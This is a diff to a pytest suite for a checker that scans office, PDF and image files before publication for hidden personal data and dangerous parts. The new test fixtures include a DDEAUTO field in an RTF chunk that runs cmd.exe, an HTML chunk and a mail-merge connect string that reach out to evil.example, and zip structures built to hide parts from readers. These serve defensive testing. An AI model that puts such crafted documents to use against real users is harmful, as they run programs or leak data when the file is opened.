@@ -239,10 +239,12 @@ def test_the_properties_of_every_office_type_are_checked(fixture_content, kind, 
     assert _one(_problems(fixture_content), "sensitive")
 
 
-@pytest.mark.parametrize("change", ["text-part", "attribute", "zip-comment"])
+@pytest.mark.parametrize("change", ["text-part", "attribute", "zip-comment", "part-comment", "part-extra-field",
+                                    "after-the-end"])
 def test_every_part_of_an_office_file_and_its_attributes_are_checked(fixture_content, change):
-    """A part that is not XML, an attribute (a tracked change's author, a cell's prompt) and the
-    zip's comment are published in the file too."""
+    """A part that is not XML, an attribute (a tracked change's author, a cell's prompt), the
+    zip's comment, a part's own comment and extra field and bytes after the zip's end are
+    published in the file too."""
     import io
     import zipfile
 
@@ -254,13 +256,52 @@ def test_every_part_of_an_office_file_and_its_attributes_are_checked(fixture_con
             data = source.read(item.filename)
             if change == "attribute" and item.filename == "word/document.xml":
                 data = data.replace(b"<w:body>", f'<w:body w:author="Matti {HETU}">'.encode(), 1)
+            if item.filename == "word/document.xml" and change == "part-comment":
+                item.comment = f"Asiakas {HETU}".encode()
+            if item.filename == "word/document.xml" and change == "part-extra-field":
+                text = f"Asiakas {HETU}".encode()
+                item.extra = (0xCAFE).to_bytes(2, "little") + len(text).to_bytes(2, "little") + text
             target.writestr(item, data)
         if change == "text-part":
             target.writestr("word/muistiinpano.txt", f"Asiakas {HETU}")
         if change == "zip-comment":
             target.comment = f"Asiakas {HETU}".encode()
+    if change == "after-the-end":
+        changed.write(f"Asiakas {HETU}".encode())
     (fixture_content / "aineistot" / name).write_bytes(changed.getvalue())
     assert "roadmap/aineistot/koe/ohje.docx" in _one(_problems(fixture_content), "sensitive").message
+
+
+@pytest.mark.parametrize("change, says", [("two-parts-one-name", "kaksi osaa samalla nimellä 'docProps/core.xml'"),
+                                          ("unlisted-part", "sisällysluettelo ei mainitse")])
+def test_a_part_of_an_office_file_that_would_be_published_unread_is_refused(fixture_content, change, says):
+    """Of two parts with one name, reading by the name gives the last; a packed part that the zip's
+    directory does not list is unpacked by a program that reads a zip part by part. Neither text
+    can be read as it stands, and office programs write neither."""
+    import io
+    import warnings
+    import zipfile
+
+    name = "koe/ohje.docx"
+    original = io.BytesIO(document_bytes("docx", DOCUMENTS[name][1]))
+    changed = io.BytesIO()
+    hidden = f"<cp:coreProperties><x>Asiakas {HETU}</x></cp:coreProperties>".encode()
+    with warnings.catch_warnings(), zipfile.ZipFile(original) as source, \
+            zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as target:
+        warnings.simplefilter("ignore")  # zipfile warns of a name written twice
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "docProps/core.xml":
+                if change == "two-parts-one-name":
+                    target.writestr(item.filename, hidden)
+                else:  # written, then left out of the directory
+                    target.writestr(item.filename, hidden)
+                    target.filelist.pop()
+                    del target.NameToInfo[item.filename]
+            target.writestr(item, data)
+    (fixture_content / "aineistot" / name).write_bytes(changed.getvalue())
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert "roadmap/aineistot/koe/ohje.docx" in problem.message and says in problem.message
 
 
 def test_a_pdfs_properties_are_checked_and_a_script_in_it_is_refused(fixture_content):
@@ -551,9 +592,12 @@ def _with_attached_template(part: str, data: bytes) -> bytes:
     return data
 
 
-@pytest.mark.parametrize("case", ["remote-template", "macros", "macro-content-type", "external-picture", "activex"])
+@pytest.mark.parametrize("case", ["remote-template", "macros", "macro-content-type", "external-picture", "activex",
+                                  "embedded-rtf-document", "embedded-html-document", "mail-merge"])
 def test_an_office_file_with_macros_or_a_remote_part_is_refused(fixture_content, case):
-    """A template fetched from the network or macros run when the file is opened."""
+    """A template fetched from the network or macros run when the file is opened, or a document
+    embedded whole (altChunk), which Word converts when the file opens: an RTF's DDEAUTO field
+    runs a program, an HTML page's picture is fetched from its address."""
     name, kind = "koe/ohje.docx", "docx"
     if case == "remote-template":
         data = _rezipped(kind, name, _with_attached_template, {"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE})
@@ -568,6 +612,25 @@ def test_an_office_file_with_macros_or_a_remote_part_is_refused(fixture_content,
                         'TargetMode="External"/></Relationships>').encode()
         data = _rezipped(kind, name, lambda part, data: data.replace(b"</Relationships>", relationship)
                          if part == "ppt/slides/_rels/slide1.xml.rels" else data)
+    elif case == "mail-merge":
+        merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
+                 b'<w:connectString w:val="Provider=SQLOLEDB;Data Source=\\\\evil.example\\x"/>'
+                 b'<w:query w:val="SELECT * FROM x"/></w:mailMerge><w:zoom')
+        data = _rezipped(kind, name, lambda part, data: data.replace(b"<w:zoom", merge, 1) if part == "word/settings.xml" else data)
+    elif case.startswith("embedded-"):
+        part, chunk = (("chunk.rtf", rb'{\rtf1{\field{\*\fldinst {DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}}}}')
+                       if case == "embedded-rtf-document" else
+                       ("chunk.htm", b'<html><body><img src="https://evil.example/seuranta.png"></body></html>'))
+        relationship = f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/aFChunk" Target="{part}"/></Relationships>'
+
+        def embed(name_in_zip: str, data: bytes) -> bytes:
+            if name_in_zip == "word/_rels/document.xml.rels":
+                return data.replace(b"</Relationships>", relationship.encode())
+            if name_in_zip == "word/document.xml":
+                return data.replace(b"<w:sectPr", b'<w:altChunk r:id="rId99"/><w:sectPr', 1)
+            return data
+
+        data = _rezipped(kind, name, embed, {f"word/{part}": chunk})
     else:
         name, kind = "koe/kysely.xlsx", "xlsx"
         data = _rezipped(kind, name, add={"xl/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x" ax:classid="{8BD21D40}"/>'})
@@ -808,9 +871,10 @@ def test_a_picture_inside_a_document_that_shows_where_it_was_taken_is_refused(fi
     assert f"roadmap/aineistot/{name}" in problem.message and "GPS-koordinaatit" in problem.message
 
 
-@pytest.mark.parametrize("case", ["office-png", "office-jpeg-tail", "pdf-jpeg"])
+@pytest.mark.parametrize("case", ["office-png", "office-jpeg-tail", "pdf-jpeg", "office-gif-tail", "office-gif-application"])
 def test_the_metadata_of_a_picture_inside_a_document_is_checked(fixture_content, case):
-    """A picture's text (a PNG's text chunk, a JPEG's comment) and data after its end are published in the document."""
+    """A picture's text (a PNG's text chunk, a JPEG's comment, a GIF's application extension) and
+    data after its end are published in the document."""
     import io
 
     from PIL import Image, PngImagePlugin
@@ -820,6 +884,15 @@ def test_the_metadata_of_a_picture_inside_a_document_is_checked(fixture_content,
         info = PngImagePlugin.PngInfo()
         info.add_text("Description", f"Asiakas {HETU}")
         Image.new("RGB", (2, 2)).save(out, format="PNG", pnginfo=info)
+    elif case.startswith("office-gif"):
+        Image.new("P", (2, 2)).save(out, format="GIF")
+        gif = out.getvalue()
+        if case == "office-gif-tail":
+            gif += f"Asiakas {HETU}".encode()
+        else:  # an application extension of a program's own, before the trailer (";")
+            text = f"Asiakas {HETU}".encode()
+            gif = gif[:-1] + b"\x21\xff\x0bOHJELMA 1.0" + bytes([len(text)]) + text + b"\x00;"
+        out = io.BytesIO(gif)
     else:
         Image.new("RGB", (2, 2)).save(out, format="JPEG", comment=f"Asiakas {HETU}" if case == "pdf-jpeg" else "")
         if case == "office-jpeg-tail":
@@ -832,6 +905,7 @@ def test_the_metadata_of_a_picture_inside_a_document_is_checked(fixture_content,
             b"/Filter /DCTDecode /Length " + str(len(picture)).encode() + b" >>\nstream\n" + picture + b"\nendstream",))
     else:
         name = "koe/ohje.docx"
-        data = _rezipped("docx", name, add={"word/media/image9." + ("png" if case == "office-png" else "jpeg"): out.getvalue()})
+        ending = "png" if case == "office-png" else "gif" if case.startswith("office-gif") else "jpeg"
+        data = _rezipped("docx", name, add={f"word/media/image9.{ending}": out.getvalue()})
     (fixture_content / "aineistot" / name).write_bytes(data)
     assert f"roadmap/aineistot/{name}" in _one(_problems(fixture_content), "sensitive").message
